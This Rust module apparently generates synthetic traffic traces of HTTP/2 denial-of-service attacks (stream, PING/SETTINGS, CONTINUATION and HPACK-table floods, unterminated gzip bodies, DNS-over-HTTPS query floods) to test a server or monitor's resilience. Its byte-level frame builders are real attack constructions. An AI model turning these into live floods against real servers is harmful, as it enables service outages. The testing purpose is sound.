//! HTTP/2: streams that stay open, frames that are small, tables and header fields that are shared.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};

use super::Attack;
use crate::wire::{Connection, SERVER, Wire};

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "http2-streams",
        what: "requests on a stream each that nobody answers: the cap on streams",
        unit: "streams",
        size: 20_000,
        write: |wire, count| frames(wire, count, 0, |number| request(odd(number))),
    },
    Attack {
        name: "http2-streams-of-many",
        what: "connections with 100 open streams each: memory of streams",
        unit: "connections",
        size: 1000,
        write: connections,
    },
    Attack {
        name: "http2-window-updates",
        what: "4000 open streams, then WINDOW_UPDATE on one after the other",
        unit: "frames",
        size: 20_000,
        write: |wire, count| {
            frames(wire, count, OPEN, |number| frame(8, 0, open_stream(number), b"\0\0\0\x01"))
        },
    },
    Attack {
        name: "http2-priorities",
        what: "4000 open streams, then PRIORITY on one after the other",
        unit: "frames",
        size: 20_000,
        write: |wire, count| {
            frames(wire, count, OPEN, |number| frame(2, 0, open_stream(number), b"\0\0\0\0\x10"))
        },
    },
    Attack {
        name: "http2-settings",
        what: "4000 open streams, then SETTINGS and PING of the connection",
        unit: "frames",
        size: 20_000,
        write: |wire, count| {
            frames(wire, count, OPEN, |number| match number % 2 {
                0 => frame(4, 0, 0, b"\0\x03\0\0\0\x64"),
                _ => frame(6, 0, 0, &number.to_be_bytes()),
            });
        },
    },
    Attack {
        name: "http2-pushes",
        what: "promises of streams that never come",
        unit: "frames",
        size: 20_000,
        write: pushes,
    },
    Attack {
        name: "http2-small-packets",
        what: "4000 open streams with anomalies, then DATA of a byte in a packet each: all streams for each packet",
        unit: "packets",
        size: 8000,
        write: small_packets,
    },
    Attack {
        name: "http2-gzip",
        what: "a compressed body on a stream each that does not end: decompressors",
        unit: "streams",
        size: 4000,
        write: gzip,
    },
    Attack {
        name: "http2-fields",
        what: "header blocks of one field on one stream, 4000 of each: all fields for each block",
        unit: "blocks",
        size: 20_000,
        write: |wire, count| {
            frames(wire, count, 0, |number| frame(1, END_HEADERS, odd(number / 4000), b"\x90"))
        },
    },
    Attack {
        name: "http2-table",
        what: "header fields that push others out of the table, and changes of its size",
        unit: "fields",
        size: 50_000,
        write: table,
    },
    Attack {
        name: "http2-references",
        what: "header fields that stand for a long one of the table: memory and records of what is named, not sent",
        unit: "streams",
        size: 250,
        write: references,
    },
    Attack {
        name: "http2-continuations",
        what: "header blocks that go on in frames of one byte",
        unit: "frames",
        size: 50_000,
        write: continuations,
    },
    Attack {
        name: "doh2-queries",
        what: "DNS over HTTP/2: queries on a stream each that nobody answers",
        unit: "queries",
        size: 5000,
        write: |wire, count| frames(wire, count, 0, |number| doh(odd(number), number)),
    },
];

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// Streams that are open before the attack; there may be 4096.
const OPEN: u64 = 4000;
/// `:method GET`, `:scheme https`, `:path /`.
const GET: &[u8] = b"\x82\x87\x84";

/// A frame.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A field that is not kept in the table, with texts as they are.
fn field(name: &[u8], value: &[u8]) -> Vec<u8> {
    [&[0, name.len() as u8], name, &[value.len() as u8], value].concat()
}

/// The client's stream of this number.
fn odd(number: u64) -> u32 {
    (2 * number + 1) as u32
}

/// One of the streams that are open.
fn open_stream(number: u64) -> u32 {
    odd(number % OPEN)
}

fn request(stream: u32) -> Vec<u8> {
    frame(1, END_HEADERS, stream, GET)
}

/// Opens a connection of the client of this number, up to the settings of both sides.
fn connect(wire: &mut Wire<'_>, number: u64) -> Connection {
    let address = IpAddr::V4(Ipv4Addr::from(0x0a00_0000 | (number / 50_000) as u32));
    let client = SocketAddr::new(address, 10_000 + (number % 50_000) as u16);
    let mut connection = wire.connect_between(client, (SERVER, 80).into());
    connection.client(wire, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0");
    connection.server(wire, &frame(4, 0, 0, b""));
    connection
}

/// A connection with so many open streams, then `count` frames of the client.
fn frames(wire: &mut Wire<'_>, count: u64, open: u64, frame: impl Fn(u64) -> Vec<u8>) {
    let mut connection = connect(wire, 0);
    // What is open is in proportion to what follows, where that is little.
    let open: Vec<u8> = (0..open.min(count / 5)).flat_map(|number| request(odd(number))).collect();
    connection.client(wire, &open);
    for first in (0..count).step_by(10) {
        let frames: Vec<u8> = (first..count.min(first + 10)).flat_map(&frame).collect();
        connection.client(wire, &frames);
    }
}

fn connections(wire: &mut Wire<'_>, count: u64) {
    let requests: Vec<u8> = (0..100).flat_map(|number| request(odd(number))).collect();
    for number in 0..count {
        let mut connection = connect(wire, number);
        connection.client(wire, &requests);
        connection.server(wire, &frame(4, 1, 0, b""));
    }
}

fn pushes(wire: &mut Wire<'_>, count: u64) {
    let mut connection = connect(wire, 0);
    connection.client(wire, &request(1));
    for number in 0..count {
        let promised = (2 * number + 2) as u32;
        let payload = [&promised.to_be_bytes(), GET].concat();
        connection.server(wire, &frame(5, END_HEADERS, 1, &payload));
    }
}

fn small_packets(wire: &mut Wire<'_>, count: u64) {
    let mut connection = connect(wire, 0);
    for number in 0..OPEN.min(count / 2) {
        // Its block ends in the middle of a field.
        connection.client(wire, &frame(1, END_HEADERS, odd(number), b"\x82\x87\x84\x40\x05a"));
    }
    for number in 0..count {
        connection.client(wire, &frame(0, 0, open_stream(number), b"a"));
    }
}

fn gzip(wire: &mut Wire<'_>, count: u64) {
    let mut connection = connect(wire, 0);
    let head = [&b"\x88"[..], &field(b"content-encoding", b"gzip")].concat();
    // A header, and a stored block that goes on.
    let body = b"\x1f\x8b\x08\0\0\0\0\0\0\x03\x01\xff\x7f\0\x80abc";
    for number in 0..count {
        connection.client(wire, &request(odd(number)));
        let response = [frame(1, END_HEADERS, odd(number), &head), frame(0, 0, odd(number), body)].concat();
        connection.server(wire, &response);
    }
}

fn table(wire: &mut Wire<'_>, count: u64) {
    let mut connection = connect(wire, 0);
    // The table is made as large as it may be, then as small.
    connection.client(wire, &frame(1, END_HEADERS | END_STREAM, 1, b"\x3f\xe1\xff\x03\x82"));
    for first in (0..count).step_by(100) {
        let fields = (first..count.min(first + 100)).flat_map(|number| match number % 4000 {
            3999 => b"\x20\x3f\xe1\xff\x03".to_vec(),
            _ => vec![0x40, 1, b'a', 1, number as u8],
        });
        let block: Vec<u8> = fields.collect();
        connection.client(wire, &frame(1, END_HEADERS | END_STREAM, odd(first + 1), &block));
    }
}

fn references(wire: &mut Wire<'_>, count: u64) {
    let mut connection = connect(wire, 0);
    // A value of 4000 bytes, of which the length is 127 + 33 + 30 * 128.
    let long = [&b"\x82\x87\x84\x40\x01a\x7f\xa1\x1e"[..], &[b'a'; 4000]].concat();
    connection.client(wire, &frame(1, END_HEADERS, 1, &long));
    let block = [GET, &[0xbe; 200]].concat();
    for number in 0..count {
        connection.client(wire, &frame(1, END_HEADERS | END_STREAM, odd(number + 1), &block));
        connection.server(wire, &frame(1, END_HEADERS | END_STREAM, odd(number + 1), b"\x88"));
    }
}

fn continuations(wire: &mut Wire<'_>, count: u64) {
    let mut connection = connect(wire, 0);
    connection.client(wire, &frame(1, 0, 1, GET));
    for first in (0..count).step_by(100) {
        let frames: Vec<u8> = (first..count.min(first + 100)).flat_map(|_| frame(9, 0, 1, b"\x90")).collect();
        connection.client(wire, &frames);
    }
}

/// A query for an address by POST (RFC 8484 4.1).
fn doh(stream: u32, number: u64) -> Vec<u8> {
    let head = [&b"\x83\x87\x84"[..], &field(b"content-type", b"application/dns-message")].concat();
    let label = format!("host{number:08}");
    let mut query = b"\0\0\x01\0\0\x01\0\0\0\0\0\0".to_vec();
    query.push(label.len() as u8);
    query.extend(label.as_bytes());
    query.extend(b"\x07example\x03com\0\0\x01\0\x01");
    [frame(1, END_HEADERS, stream, &head), frame(0, END_STREAM, stream, &query)].concat()
}
